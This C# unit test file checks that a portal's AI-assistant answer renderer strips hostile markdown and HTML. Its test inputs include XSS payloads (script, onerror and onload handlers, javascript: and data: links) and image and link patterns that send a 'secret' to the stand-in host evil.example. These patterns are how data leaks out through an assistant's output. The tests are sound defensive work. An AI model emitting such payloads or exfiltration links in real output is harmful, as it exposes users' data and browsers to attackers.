using DynoPortal.Web.Assistant;
using DynoPortal.Web.Assistant.Cards;

namespace DynoPortal.Tests.Assistant.Panel;

/// <summary>S-10: what an answer says can't leave the portal.</summary>
public sealed class AnswerMarkdownTests
{
    private static readonly CitationLine Cited = new(1, "tie-down", "Tie-down", "Straps", "straps", "3", "Four straps.");

    [Theory]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("text <a href=\"https://evil.example\">here</a>")]
    [InlineData("![pixel](https://evil.example/p.png?d=secret)")]
    [InlineData("![pixel](/own.png)")]
    [InlineData("[here](https://evil.example/?d=secret)")]
    [InlineData("[here](//evil.example)")]
    [InlineData("[here](/\\evil.example)")]
    [InlineData("[here](javascript:alert(1))")]
    [InlineData("[here](data:text/html,x)")]
    [InlineData("<https://evil.example>")]
    [InlineData("[here][1]\n\n[1]: https://evil.example")]
    [InlineData("<svg onload=alert(1)>")]
    public void Nothing_that_an_answer_says_leads_out_or_runs(string markdown)
    {
        var html = Html(markdown);

        Assert.DoesNotContain("<a", html, StringComparison.Ordinal);
        Assert.DoesNotContain("<img", html, StringComparison.Ordinal);
        Assert.DoesNotContain("<script", html, StringComparison.Ordinal);
        Assert.DoesNotContain("<svg", html, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("[the board](/?date=2026-03-10&highlight=A-1042)", "<a href=\"/?date=2026-03-10&amp;highlight=A-1042\">the board</a>")]
    [InlineData("**bold**", "<strong>bold</strong>")]
    [InlineData("| a | b |\n|---|---|\n| 1 | 2 |", "<table>")]
    [InlineData("# Big", "<h4>Big</h4>")]
    public void What_is_harmless_is_drawn(string markdown, string expected) => Assert.Contains(expected, Html(markdown), StringComparison.Ordinal);

    [Fact]
    public void U11_A_number_in_brackets_leads_to_what_it_cites_and_others_stay_text()
    {
        var html = Html("Four straps [1], or so [2].", Cited);

        Assert.Contains("<a href=\"/procedures/tie-down?facility=DET&amp;section=straps&amp;quote=Four%20straps.#straps\">[1]</a>", html, StringComparison.Ordinal);
        Assert.Contains("or so [2].", html, StringComparison.Ordinal);
    }

    [Fact]
    public void An_address_that_is_no_link_can_still_be_read() => Assert.Contains("here (https://evil.example/)", Html("[here](https://evil.example/)"), StringComparison.Ordinal);

    private static string Html(string markdown, params CitationLine[] citations) => AnswerMarkdown.Html(markdown, citations, "DET").Value;
}
